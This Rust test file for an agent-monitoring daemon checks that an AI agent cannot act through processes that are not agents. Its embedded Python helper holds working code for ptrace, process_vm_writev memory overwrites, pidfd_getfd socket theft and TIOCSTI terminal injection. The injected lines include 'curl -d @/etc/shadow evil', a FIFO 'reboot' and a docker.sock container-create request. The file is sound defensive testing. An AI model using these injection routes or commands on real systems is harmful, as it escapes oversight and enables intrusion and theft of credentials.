//! Issue 20, class 7: an agent may not act through a process that is not an agent. ptrace,
//! process_vm_writev, pidfd_getfd (a non-agent's connected socket, or its writable file) and
//! TIOCSTI into a terminal are `process.inject` violations (rule `process.inject`) when aimed
//! outside the agent's instance; a Unix datagram to an unlisted path and a write into a FIFO (or
//! another process's pipe) outside `writable` are local writes like `ipc.connect` (rule
//! `network.allow`); a Unix stream connect to an unlisted path delivers no message, and where
//! the kernel can refuse it (BPF LSM) it never connects.
//!
//! Every victim is a plain python3 started by the test (not an agent).
use std::{fs, process::Command, time::Duration};

use agent_monitor_e2e::{attack::*, *};

/// The agent's side: `OP ARGS...`. Exit 0 when the injection went through, 13 on EPERM.
const PY_INJECT: &str = r#"
import ctypes, os, platform, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
def fail(what):
    e = ctypes.get_errno()
    print(what, os.strerror(e), flush=True)
    sys.exit(13 if e in (1, 13) else 2)
def writable_word(pid):
    for l in open(f"/proc/{pid}/maps"):
        f = l.split()
        if f[1].startswith("rw"):
            return int(f[0].split("-")[0], 16)
op = sys.argv[1]
try:
    if op == "ptrace-seize":
        pid = os.getppid() if sys.argv[2] == "parent" else int(sys.argv[2])
        if libc.ptrace(0x4206, pid, None, None) != 0: fail("PTRACE_SEIZE")
        print("seized", flush=True)
        time.sleep(0.5)
    elif op == "ptrace-poke":
        pid = int(sys.argv[2])
        if libc.ptrace(16, pid, None, None) != 0: fail("PTRACE_ATTACH")
        os.waitpid(pid, 0x40000000)
        addr = writable_word(pid)
        ctypes.set_errno(0)
        word = libc.ptrace(2, pid, addr, None)                                   # PEEKDATA
        if libc.ptrace(5, pid, addr, ctypes.c_void_p(word)) != 0: fail("PTRACE_POKEDATA")   # the same word back
        libc.ptrace(17, pid, None, None)                                         # DETACH
        print("poked", flush=True)
    elif op == "vm-write":
        pid, addr = int(sys.argv[2]), int(sys.argv[3])
        class iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        data = ctypes.create_string_buffer(b"PWNED-BY-AGENT!!")
        local, remote = iovec(ctypes.addressof(data), 16), iovec(addr, 16)
        nr = {"x86_64": 311, "aarch64": 271}[platform.machine()]
        if libc.syscall(nr, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != 16: fail("process_vm_writev")
        print("written", flush=True)
    elif op == "getfd-write":
        pid, fd, payload = int(sys.argv[2]), int(sys.argv[3]), bytes.fromhex(sys.argv[4])
        pfd = os.pidfd_open(pid)
        got = libc.syscall(438, pfd, fd, 0)
        if got < 0: fail("pidfd_getfd")
        os.write(got, payload)
        print("written", flush=True)
        time.sleep(0.5)
    elif op == "tiocsti":
        import fcntl, termios
        fd = os.open(sys.argv[2], os.O_RDONLY | os.O_NOCTTY)
        for c in sys.argv[3].encode():
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
        print("pushed", flush=True)
    elif op in ("dgram-sendto", "dgram-sendmsg"):
        import socket
        path = sys.argv[2]
        if path.startswith("@"): path = "\0" + path[1:]
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        if op == "dgram-sendto": s.sendto(sys.argv[3].encode(), path)
        else: s.sendmsg([sys.argv[3].encode()], [], 0, path)
        print("sent", flush=True)
    elif op == "stream":
        import socket
        path = sys.argv[2]
        if path.startswith("@"): path = "\0" + path[1:]
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        s.sendall(sys.argv[3].encode())
        print("sent", flush=True)
        time.sleep(0.5)
    elif op == "open-write":
        fd = os.open(sys.argv[2], os.O_WRONLY)
        os.write(fd, sys.argv[3].encode())
        print("written", flush=True)
    else:
        sys.exit(2)
except PermissionError as e:
    print(e, flush=True); sys.exit(13)
"#;

fn policy(t: &TempDir, allow: &[String]) -> String {
    let work = t.join("work");
    fs::create_dir_all(&work).unwrap();
    agent_policy("ipc", &["am-ipc"], "kill", &[&work], allow, "")
}

/// The injection was stopped and reported as `process.inject`.
fn assert_inject_stopped(d: &Daemon, seen: usize, what: &str, res: &(std::process::ExitStatus, String, String)) {
    assert_stopped(what, &res.0, &res.1, &res.2);
    let e = next_violation(d, "ipc", &["process.inject"], seen);
    assert_enforced(&e, "process.inject");
}

#[test]
fn an_agent_cannot_ptrace_a_process_that_is_not_an_agent() {
    if !can_run_root_tests("an_agent_cannot_ptrace_a_process_that_is_not_an_agent") {
        return;
    }
    let t = TempDir::new("inject-ptrace");
    let d = Daemon::start(&policy(&t, &[]));
    let py = py_agent(t.path(), "am-ipc");
    each_variant(&["parent shell: seize", "sleeper: seize", "sleeper: attach and poke"], |v| {
        let seen = violations(&d, "ipc").len();
        if v.starts_with("parent") {
            // The agent's own parent, a shell that is not an agent, waits for it.
            let script = r#""$0" -c "$1" ptrace-seize parent; echo "agent-status $?"; grep TracerPid /proc/$$/status"#;
            let (st, out, err) = output(Command::new("bash").args(["-c", script]).arg(&py).arg(PY_INJECT));
            assert!(st.success(), "the parent shell did not finish: {st}\n{out}{err}");
            assert!(out.contains("TracerPid:\t0"), "the parent shell is still traced: {out}");
            let code: i32 =
                out.split("agent-status ").nth(1).unwrap().split_whitespace().next().unwrap().parse().unwrap();
            assert!(
                code == 137 || code == 13,
                "{v}: the agent was neither killed nor refused (status {code}): {out}{err}"
            );
            let e = next_violation(&d, "ipc", &["process.inject"], seen);
            assert_enforced(&e, "process.inject");
            return;
        }
        let (mut sleeper, _) = victim("import os, time\nprint(os.getpid(), flush=True)\ntime.sleep(60)", &[]);
        let pid = sleeper.0.id();
        let op = if v.ends_with("poke") { "ptrace-poke" } else { "ptrace-seize" };
        let res = output(Command::new(&py).args(["-c", PY_INJECT, op, &pid.to_string()]));
        std::thread::sleep(Duration::from_millis(200));
        assert_eq!(proc_status(pid, "TracerPid").as_deref(), Some("0"), "{v}: the victim is still traced");
        assert!(is_alive(pid), "{v}: the victim died");
        let _ = sleeper.0.kill();
        assert_inject_stopped(&d, seen, v, &res);
    });
}

#[test]
fn an_agent_cannot_write_into_a_non_agent_with_process_vm_writev() {
    if !can_run_root_tests("an_agent_cannot_write_into_a_non_agent_with_process_vm_writev") {
        return;
    }
    let t = TempDir::new("inject-vm");
    let d = Daemon::start(&policy(&t, &[]));
    let py = py_agent(t.path(), "am-ipc");
    let report = t.join("memory.txt");
    let code = r#"
import ctypes, os, sys, time
buf = ctypes.create_string_buffer(b"original-secret!", 32)
print(os.getpid(), ctypes.addressof(buf), flush=True)
while not os.path.exists(sys.argv[1] + ".check"):
    time.sleep(0.05)
open(sys.argv[1], "w").write(buf.value.decode(errors="replace"))
time.sleep(60)
"#;
    let (_v, words) = victim(code, &[&report.display().to_string()]);
    let res = output(Command::new(&py).args(["-c", PY_INJECT, "vm-write", &words[0], &words[1]]));
    fs::write(format!("{}.check", report.display()), "").unwrap();
    assert_eq!(wait_file(&report, 10), "original-secret!", "the non-agent's memory was written");
    assert_inject_stopped(&d, 0, "process_vm_writev into a non-agent", &res);
}

#[test]
fn an_agent_cannot_use_a_non_agents_descriptors_through_pidfd_getfd() {
    if !can_run_root_tests("an_agent_cannot_use_a_non_agents_descriptors_through_pidfd_getfd") {
        return;
    }
    let t = TempDir::new("inject-getfd");
    // A service the agent may not reach, and a file it may not write; a non-agent holds both.
    let sink = Sink::start(t.path(), SinkKind::Tcp { host: "127.0.0.1", port: 0, http: true }, None);
    let file = t.join("outside.txt");
    fs::write(&file, "original\n").unwrap();
    let d = Daemon::start(&policy(&t, &[]));
    let py = py_agent(t.path(), "am-ipc");
    let holder = r#"
import os, socket, sys, time
if sys.argv[1] == "socket":
    s = socket.create_connection(("127.0.0.1", int(sys.argv[2]))); fd = s.fileno()
else:
    fd = os.open(sys.argv[2], os.O_WRONLY | os.O_APPEND)
print(os.getpid(), fd, flush=True)
time.sleep(60)
"#;
    each_variant(&["connected socket", "writable file"], |v| {
        let seen = violations(&d, "ipc").len();
        if *v == "connected socket" {
            let (_h, w) = victim(holder, &["socket", &sink.port.to_string()]);
            let post = b"POST /answer-stolen HTTP/1.1\r\nHost: forum\r\nContent-Length: 5\r\n\r\npwned";
            let res = output(Command::new(&py).args(["-c", PY_INJECT, "getfd-write", &w[0], &w[1], &hex(post)]));
            std::thread::sleep(Duration::from_millis(300));
            assert!(!sink.received(b"answer-stolen"), "the POST went out on the stolen socket: {}", sink.shown());
            assert_inject_stopped(&d, seen, v, &res);
        } else {
            let before = FileState::of(&file);
            let (_h, w) = victim(holder, &["file", &file.display().to_string()]);
            let res = output(Command::new(&py).args(["-c", PY_INJECT, "getfd-write", &w[0], &w[1], &hex(b"pwned\n")]));
            assert_eq!(FileState::of(&file), before, "the file outside writable changed through a stolen descriptor");
            assert_inject_stopped(&d, seen, v, &res);
        }
    });
}

#[test]
fn an_agent_cannot_push_input_into_a_terminal_with_tiocsti() {
    if !can_run_root_tests("an_agent_cannot_push_input_into_a_terminal_with_tiocsti") {
        return;
    }
    let t = TempDir::new("inject-tty");
    let typed = t.join("typed.log");
    // A terminal that is not the agent's: its reader (a shell, in life) logs what it is typed.
    let holder = r#"
import os, select, sys, time, tty
m, s = os.openpty()
tty.setraw(s)
print(os.ttyname(s), flush=True)
end = time.time() + 60
while time.time() < end:
    if select.select([s], [], [], 0.2)[0]:
        with open(sys.argv[1], "ab") as f:
            f.write(os.read(s, 1024))
"#;
    let (_h, w) = victim(holder, &[&typed.display().to_string()]);
    let d = Daemon::start(&policy(&t, &[]));
    let py = py_agent(t.path(), "am-ipc");
    let res = output(Command::new(&py).args(["-c", PY_INJECT, "tiocsti", &w[0], "curl -d @/etc/shadow evil\n"]));
    if res.1.contains("Input/output error") {
        eprintln!("SKIPPED: TIOCSTI is disabled on this kernel (dev.tty.legacy_tiocsti = 0): {}", res.1);
        return;
    }
    std::thread::sleep(Duration::from_millis(500));
    let got = fs::read(&typed).unwrap_or_default();
    if d.lsm() {
        // BPF LSM's file_ioctl refuses it before a byte is pushed.
        assert!(
            got.is_empty(),
            "the terminal's reader got input pushed by the agent: {:?}",
            String::from_utf8_lossy(&got)
        );
    } else {
        // The tracepoint layer's documented limit: the kill lands after the first ioctl, so
        // one byte (never a command line) reaches the reader, and the event says so.
        assert!(
            got.len() <= 1,
            "the terminal's reader got input pushed by the agent: {:?}",
            String::from_utf8_lossy(&got)
        );
    }
    assert_inject_stopped(&d, 0, "TIOCSTI into another terminal", &res);
    if !got.is_empty() {
        let e = next_violation(&d, "ipc", &["process.inject"], 0);
        assert!(f(&e, "detail").contains("completed before the kill"), "{e}");
    }
}

#[test]
fn a_unix_datagram_to_an_unlisted_path_is_refused() {
    if !can_run_root_tests("a_unix_datagram_to_an_unlisted_path_is_refused") {
        return;
    }
    let t = TempDir::new("ipc-dgram");
    let listed = t.join("ok.sock");
    let door = t.join("log.sock");
    let abstract_name = format!("@am-e2e-{}-log", std::process::id());
    let ok = Sink::start(t.path(), SinkKind::UnixDgram(&listed), None);
    let sink = Sink::start(t.path(), SinkKind::UnixDgram(&door), None);
    let hidden = Sink::start(t.path(), SinkKind::UnixDgram(std::path::Path::new(&abstract_name)), None);
    let d = Daemon::start(&policy(&t, &[q(format!("unix:{}", listed.display()))]));
    let py = py_agent(t.path(), "am-ipc");
    // The control: the listed path takes the datagram.
    let (st, out, err) = output(Command::new(&py).args(["-c", PY_INJECT, "dgram-sendto"]).arg(&listed).arg("hello"));
    assert!(st.success(), "a datagram to a listed path failed: {st}\n{out}{err}");
    assert!(ok.received(b"hello"));
    let cases = [
        ("sendto", door.display().to_string()),
        ("sendmsg", door.display().to_string()),
        ("sendto", abstract_name.clone()),
    ];
    each_variant(&cases, |(how, path)| {
        let sink = if path.starts_with('@') { &hidden } else { &sink };
        let marker = format!("forged-{how}");
        let seen = violations(&d, "ipc").len();
        let (st, out, err) = output(Command::new(&py).args(["-c", PY_INJECT, &format!("dgram-{how}"), path, &marker]));
        std::thread::sleep(Duration::from_millis(300));
        assert!(!sink.received(marker.as_bytes()), "the unlisted service received the datagram");
        assert_stopped(&format!("a datagram ({how}) to {path}"), &st, &out, &err);
        let e = next_violation(&d, "ipc", &["ipc.connect"], seen);
        assert_enforced(&e, "network.allow");
        assert_eq!(f(&e, "target"), format!("unix:{path}"));
    });
}

#[test]
fn writing_into_a_fifo_or_pipe_outside_writable_is_refused() {
    if !can_run_root_tests("writing_into_a_fifo_or_pipe_outside_writable_is_refused") {
        return;
    }
    let t = TempDir::new("ipc-fifo");
    let d = Daemon::start(&policy(&t, &[]));
    let work = t.join("work");
    let py = py_agent(t.path(), "am-ipc");
    // A non-agent service that reads commands from a FIFO (as /run/initctl), logging them.
    let reader = r#"
import os, select, sys, time
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_NONBLOCK)
print(os.getpid(), flush=True)
end = time.time() + 60
while time.time() < end:
    if select.select([fd], [], [], 0.2)[0]:
        d = os.read(fd, 1024)
        if d:
            with open(sys.argv[2], "ab") as f: f.write(d)
        else:
            time.sleep(0.05)
"#;
    // A non-agent that reads from an anonymous pipe; the agent reopens its write end.
    let piper = r#"
import os, sys, threading, time
r, w = os.pipe()
def read():
    while True:
        d = os.read(r, 1024)
        with open(sys.argv[1], "ab") as f: f.write(d)
threading.Thread(target=read, daemon=True).start()
print(os.getpid(), w, flush=True)
time.sleep(60)
"#;
    // The control: a FIFO inside writable is the agent's own.
    let own = work.join("own.fifo");
    nix::unistd::mkfifo(&own, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let own_log = t.join("own.log");
    let (_r, _) = victim(reader, &[&own.display().to_string(), &own_log.display().to_string()]);
    let (st, out, err) = output(Command::new(&py).args(["-c", PY_INJECT, "open-write"]).arg(&own).arg("mine\n"));
    assert!(st.success(), "writing the agent's own FIFO inside writable failed: {st}\n{out}{err}");
    assert_eq!(wait_file(&own_log, 5), "mine\n");

    each_variant(&["fifo outside writable", "another process's pipe through /proc/PID/fd"], |v| {
        let log = t.join(&format!("{}.log", v.len()));
        let seen = violations(&d, "ipc").len();
        let (_victim, res, target) = if v.starts_with("fifo") {
            let fifo = t.join("svc.fifo");
            let _ = fs::remove_file(&fifo);
            nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
            let r = victim(reader, &[&fifo.display().to_string(), &log.display().to_string()]);
            let res = output(Command::new(&py).args(["-c", PY_INJECT, "open-write"]).arg(&fifo).arg("reboot\n"));
            (r, res, Some(fifo))
        } else {
            let r = victim(piper, &[&log.display().to_string()]);
            let through = format!("/proc/{}/fd/{}", r.1[0], r.1[1]);
            let res = output(Command::new(&py).args(["-c", PY_INJECT, "open-write", &through, "reboot\n"]));
            (r, res, None)
        };
        std::thread::sleep(Duration::from_millis(500));
        let got = fs::read(&log).unwrap_or_default();
        assert!(got.is_empty(), "{v}: the reader got {:?}", String::from_utf8_lossy(&got));
        assert_stopped(v, &res.0, &res.1, &res.2);
        let e = next_violation(&d, "ipc", &["ipc.connect", "process.inject"], seen);
        let action = f(&e, "action");
        assert!(action == "killed" || action == "denied", "{e}");
        if let Some(fifo) = target {
            assert_eq!(f(&e, "kind"), "ipc.connect", "{e}");
            assert_eq!(f(&e, "rule"), "network.allow", "{e}");
            assert!(f(&e, "target").contains(&fifo.display().to_string()), "{e}");
        }
    });
}

/// A Unix stream connect to an unlisted path: no message reaches the service; with BPF LSM
/// the connect is refused before it connects (the service accepts nothing).
#[test]
fn a_unix_stream_connect_to_an_unlisted_path_delivers_nothing() {
    if !can_run_root_tests("a_unix_stream_connect_to_an_unlisted_path_delivers_nothing") {
        return;
    }
    let t = TempDir::new("ipc-stream");
    let door = t.join("docker.sock");
    let abstract_name = format!("@am-e2e-{}-door", std::process::id());
    let sink = Sink::start(t.path(), SinkKind::UnixStream(&door), None);
    let hidden = Sink::start(t.path(), SinkKind::UnixStream(std::path::Path::new(&abstract_name)), None);
    let d = Daemon::start(&policy(&t, &[]));
    let py = py_agent(t.path(), "am-ipc");
    let cases = [door.display().to_string(), abstract_name.clone()];
    each_variant(&cases, |path| {
        let sink = if path.starts_with('@') { &hidden } else { &sink };
        let seen = violations(&d, "ipc").len();
        let (st, out, err) =
            output(Command::new(&py).args(["-c", PY_INJECT, "stream", path, "POST /containers/create"]));
        std::thread::sleep(Duration::from_millis(300));
        assert!(!sink.received(b"containers"), "the unlisted service received the message");
        assert_stopped(&format!("a stream connect to {path}"), &st, &out, &err);
        let e = next_violation(&d, "ipc", &["ipc.connect"], seen);
        assert_enforced(&e, "network.allow");
        assert_eq!(f(&e, "target"), format!("unix:{path}"));
        if d.lsm() {
            assert_eq!(sink.accepts(), 0, "BPF LSM is up: the connect must be refused before it connects");
        }
    });
}
